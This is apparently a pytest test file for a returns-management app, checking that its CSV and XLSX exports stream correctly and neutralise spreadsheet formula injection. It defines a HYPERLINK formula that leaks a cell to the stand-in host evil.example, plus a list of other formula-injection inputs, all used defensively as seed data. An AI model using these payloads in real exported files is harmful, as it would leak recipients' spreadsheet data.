"""Exports of the returns grid from real SQLite and PostgreSQL: the view's rows, every page, safe and streamed."""

from __future__ import annotations

import csv
import io
import time
import tracemalloc
import zipfile
from datetime import UTC, datetime
from decimal import Decimal
from types import SimpleNamespace
from xml.etree import ElementTree

import pytest
from sqlalchemy import select
from sqlalchemy.orm import Session, sessionmaker

from returnbridge.db.engine import transaction
from returnbridge.db.models import Case
from returnbridge.domain.case_view import GRID_COLUMNS, CaseView, ViewParameterError
from returnbridge.domain.statuses import LabelSet
from returnbridge.exports import csv_chunks, xlsx_chunks
from returnbridge.sync.case_views import export_cases, export_columns, export_rows

from .case_grid_data import T0, a_cancellation, a_return, account, store

NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for refund")'


def seed(factory: sessionmaker[Session], count: int, *, reason_every: int = 0) -> None:
    with transaction(factory) as session:
        shop = account(session, "7001", "Alpha Store")
    for start in range(0, count, 1000):
        store(factory, shop, [
            a_return(f"{10_000_000 + i}", amount=f"{i % 97}.{i % 100:02d}", created=T0 + i,
                     reason=EVIL if reason_every and i % reason_every == 0 else "Damaged")
            for i in range(start, min(start + 1000, count))
        ])


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data[3:].decode())))


def test_csv_export_neutralises_a_buyer_formula_in_the_reason(session_factory: sessionmaker[Session]) -> None:
    seed(session_factory, 3, reason_every=3)
    with session_factory() as session:
        export = export_cases(session, {"columns": "return_id,reason,refund_amount"}, "csv")
        rows = read_csv(b"".join(export.chunks))
    assert rows[0] == ["TikTok return ID", "Reason", "Refund amount", "Currency"]
    evil = next(r for r in rows if r[0] == "10000000")
    assert evil[1] == "'" + EVIL
    assert [r[1] for r in rows[1:]].count("Damaged") == 2
    assert export.media_type.startswith("text/csv") and export.filename.endswith(".csv")


def test_csv_export_writes_every_row_of_the_filtered_view_in_its_order(
    session_factory: sessionmaker[Session],
) -> None:
    seed(session_factory, 25)
    params = {"sort": "created_at", "dir": "asc", "amount_min": "10", "currency": "USD",
              "columns": "return_id,refund_amount,created_at", "limit": "5"}
    with session_factory() as session:
        rows = read_csv(b"".join(export_cases(session, params, "csv", batch=4).chunks))
    expected = [i for i in range(25) if i % 97 >= 10]
    assert [r[0] for r in rows[1:]] == [str(10_000_000 + i) for i in expected]
    assert Decimal(rows[1][1]) == Decimal(f"{expected[0] % 97}.{expected[0] % 100:02d}")
    assert rows[1][2:] == ["USD", "2027-01-15 08:00:10"]


def test_xlsx_export_opens_with_numbers_dates_and_no_formula(session_factory: sessionmaker[Session]) -> None:
    seed(session_factory, 12, reason_every=4)
    with session_factory() as session:
        export = export_cases(session, {"columns": "return_id,reason,refund_amount,created_at", "sort": "return_id",
                                        "dir": "asc"}, "xlsx")
        data = b"".join(export.chunks)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet = ElementTree.fromstring(archive.read("xl/worksheets/sheet1.xml"))
    assert sheet.find(".//m:f", NS) is None
    rows = sheet.findall(".//m:row", NS)
    assert len(rows) == 13
    first = rows[1].findall("m:c", NS)
    assert first[0].findtext("m:is/m:t", namespaces=NS) == "10000000"
    assert first[1].findtext("m:is/m:t", namespaces=NS) == "'" + EVIL
    assert (first[2].get("t"), first[2].findtext("m:v", namespaces=NS)) == ("n", "0")
    assert first[3].findtext("m:is/m:t", namespaces=NS) == "USD"
    assert first[4].get("s") == "1"  # a real date cell


def test_export_by_runtime_reads_in_short_transactions(session_factory: sessionmaker[Session]) -> None:
    seed(session_factory, 9)
    runtime = SimpleNamespace(sessions=session_factory)
    chunks = export_cases(runtime, {"columns": "return_id"}, "csv", batch=2).chunks  # type: ignore[arg-type]
    assert len(read_csv(b"".join(chunks))) == 10


def test_unknown_export_format_is_refused(session_factory: sessionmaker[Session]) -> None:
    with pytest.raises(ViewParameterError) as error, session_factory() as session:
        export_cases(session, {}, "pdf")
    assert error.value.parameter == "format"


@pytest.mark.timeout(300)
def test_export_of_20k_rows_keeps_memory_small(session_factory: sessionmaker[Session]) -> None:
    seed(session_factory, 20_000)
    runtime = SimpleNamespace(sessions=session_factory)
    tracemalloc.start()
    try:
        total = 0
        for chunk in export_cases(runtime, {}, "xlsx").chunks:  # type: ignore[arg-type]
            total += len(chunk)
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    # Holding the 20,000 rows would take tens of megabytes; one keyset batch of 1,000 takes a few.
    assert total > 500_000
    assert peak < 12_000_000, peak


# Text a buyer or a shop controls, as hostile as it gets: formulas by every trigger, quotes, line breaks,
# right-to-left marks, emoji, and a lone surrogate-free astral character.
HOSTILE = [
    EVIL, "+1+1", "-2+3", "@SUM(A1:A9)", "\tTabbed", "\rReturned", 'He said "no",\nthen left', "Line\r\nbreak",
    "\u202eRTL override \u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627", "Emoji \U0001f4e6\U0001f525 ok",
    "  spaced  ", "'already quoted", "comma, semicolon; pipe|",
    # An empty cell (PostgreSQL's CSV quotes an empty string) and PostgreSQL's end-of-data marker.
    "", "\\.",
]


# TikTok's spellings of a type, others a label is still found for, and ones it is not.
TYPES = ["REFUND", "RETURN_AND_REFUND", "=CMD", " refund\u00a0", "Replacement", "EXCHANGE\t", "\u212aREFUND",
         "cancellation"]


def seed_hostile(factory: sessionmaker[Session]) -> None:
    with transaction(factory) as session:
        shop = account(session, "7001", '=HYPERLINK("x") "Shop", \u05e9\u05dc\u05d5\u05dd')
        other = account(session, "7002", "@Other\nShop \U0001f6cd")
    returns = []
    for i, text in enumerate(HOSTILE * 3):
        currency, amount = [("USD", f"{i}.{i:02d}"), ("JPY", f"{1500 + i}"), ("KWD", f"{i}.250"),
                            ("GBP", None)][i % 4]
        returns.append(a_return(
            f"{20_000_000 + i}" if i % 5 else f"-{i}=1", reason=text, currency=currency, amount=amount,
            created=T0 + i * 3_601, deadline=T0 + 86_400 + i * 59 if i % 3 else None,
            order_id=f"+{i}" if i % 7 == 0 else None, return_type=TYPES[i % len(TYPES)],
            status=["RETURN_OR_REFUND_REQUEST_PENDING", "RETURN_OR_REFUND_REQUEST_COMPLETE"][i % 2],
        ))
    store(factory, shop, returns[: len(returns) // 2])
    store(factory, other, returns[len(returns) // 2:], [a_cancellation("88000001", deadline=T0 + 500)])
    with transaction(factory) as session:
        # Values the ingest never produces but the columns can hold: a fraction of a second just before the
        # next one (truncated, never rounded), a negative amount, a large amount with six decimals.
        first = session.scalars(select(Case).order_by(Case.id)).first()
        assert first is not None
        first.tiktok_create_time = datetime(2027, 3, 1, 12, 59, 59, 999_999, tzinfo=UTC)
        first.refund_total = Decimal("-0.25")
        for offset, amount in ((1, "123456789.123456"), (2, "0"), (3, "-7"), (4, "0.000001")):
            row = session.scalars(select(Case).order_by(Case.id).offset(offset)).first()
            assert row is not None
            row.refund_total = Decimal(amount)


def row_by_row_csv(factory: sessionmaker[Session], params: dict[str, str]) -> bytes:
    """The export as it was made before the fast path: ``CaseRow`` values through ``csv_chunks``."""
    view = CaseView.from_query(params)
    header, readers = export_columns(view)
    with factory() as session:
        rows = ([read(row) for read in readers] for row in export_rows(session, view, LabelSet.CURRENT, 7))
        return b"".join(csv_chunks(header, rows))


ALL_COLUMNS = ",".join(c.key for c in GRID_COLUMNS)


# Views whose files are compared with the row-by-row ones: every column, every kind of sort, tabs, filters, search.
HOSTILE_VIEWS = [
    {},
    {"columns": ALL_COLUMNS},
    {"columns": ALL_COLUMNS, "sort": "reason", "dir": "asc"},
    {"columns": ALL_COLUMNS, "sort": "refund_amount", "dir": "desc"},
    {"columns": ALL_COLUMNS, "sort": "deadline", "dir": "asc"},
    {"columns": ALL_COLUMNS, "sort": "account", "dir": "desc"},
    {"columns": ALL_COLUMNS, "tab": "needs_action"},
    {"columns": ALL_COLUMNS, "tab": "request_pending", "sort": "type"},
    {"columns": "reason,refund_amount,type,account", "currency": "JPY", "amount_min": "1501"},
    {"columns": ALL_COLUMNS, "q": "20000001"},
    {"columns": "reason", "sort": "reason"},
    {"columns": ALL_COLUMNS, "q": "cotton tee", "created_from": "2027-01-15", "created_to": "2027-01-16"},
]
HOSTILE_VIEW_IDS = ["default", "all", "reason", "amount", "deadline", "account", "needs_action", "tab_type", "jpy",
                    "search", "one_column", "text_search_dates"]


@pytest.mark.parametrize("params", HOSTILE_VIEWS, ids=HOSTILE_VIEW_IDS)
def test_fast_csv_export_is_the_row_by_row_file_on_hostile_data(
    session_factory: sessionmaker[Session], params: dict[str, str],
) -> None:
    seed_hostile(session_factory)
    expected = row_by_row_csv(session_factory, params)
    runtime = SimpleNamespace(sessions=session_factory)
    fast = b"".join(export_cases(runtime, params, "csv", batch=5).chunks)  # type: ignore[arg-type]
    assert fast == expected
    assert len(read_csv(expected)) > 2 or "q" in params or "currency" in params


def sheet_xml(workbook: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(workbook)) as archive:
        return archive.read("xl/worksheets/sheet1.xml")


def row_by_row_sheet(factory: sessionmaker[Session], params: dict[str, str]) -> bytes:
    """The sheet as it was written before the streamed read: ``CaseRow`` values through ``xlsx_chunks``."""
    view = CaseView.from_query(params)
    header, readers = export_columns(view)
    with factory() as session:
        rows = ([read(row) for read in readers] for row in export_rows(session, view, LabelSet.CURRENT, 7))
        return sheet_xml(b"".join(xlsx_chunks(header, rows)))


@pytest.mark.parametrize("params", HOSTILE_VIEWS, ids=HOSTILE_VIEW_IDS)
def test_fast_xlsx_export_is_the_row_by_row_sheet_on_hostile_data(
    session_factory: sessionmaker[Session], params: dict[str, str],
) -> None:
    seed_hostile(session_factory)
    expected = row_by_row_sheet(session_factory, params)
    runtime = SimpleNamespace(sessions=session_factory)
    fast = sheet_xml(b"".join(export_cases(runtime, params, "xlsx", batch=5).chunks))  # type: ignore[arg-type]
    assert fast == expected
    assert expected.count(b"<row ") > 2 or "q" in params or "currency" in params


def test_fast_csv_export_neutralises_and_formats_hostile_cells(session_factory: sessionmaker[Session]) -> None:
    seed_hostile(session_factory)
    runtime = SimpleNamespace(sessions=session_factory)
    rows = read_csv(b"".join(export_cases(runtime, {"columns": ALL_COLUMNS, "sort": "return_id", "dir": "asc"},
                                          "csv").chunks))  # type: ignore[arg-type]
    cells = {cell for row in rows[1:] for cell in row}
    assert "'" + EVIL in cells and "'@SUM(A1:A9)" in cells and "'\tTabbed" in cells and "'-0=1" in cells
    assert 'He said "no",\nthen left' in cells and "Emoji \U0001f4e6\U0001f525 ok" in cells
    assert "'=CMD" in cells  # a type TikTok has not told us about is shown as sent
    assert "'@Other\nShop \U0001f6cd" in cells
    assert {"-0.25", "123456789.123456", "0", "-7", "0.000001", "1505", "6.25", "JPY", "KWD"} <= cells
    assert "2027-03-01 12:59:59" in cells
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)


def test_csv_export_reads_one_snapshot_without_holding_up_writers(session_factory: sessionmaker[Session]) -> None:
    seed(session_factory, 9)
    runtime = SimpleNamespace(sessions=session_factory)
    chunks = export_cases(runtime, {"columns": "return_id"}, "csv", batch=2).chunks  # type: ignore[arg-type]
    started = [next(chunks), next(chunks)]  # the header, then the first batch: the export's read is open
    began = time.monotonic()
    seed_more = a_return("10999999", created=T0 - 10_000)  # oldest: read last, were the read not one snapshot
    with transaction(session_factory) as session:
        shop = session.scalars(select(Case.account_id)).first()
    assert shop is not None
    store(session_factory, shop, [seed_more])
    assert time.monotonic() - began < 5  # not queued behind the export (SQLite's busy timeout is 30 s)
    rows = read_csv(b"".join([*started, *chunks]))
    assert len(rows) == 10 and ["10999999"] not in rows  # the nine rows of the snapshot the export began with
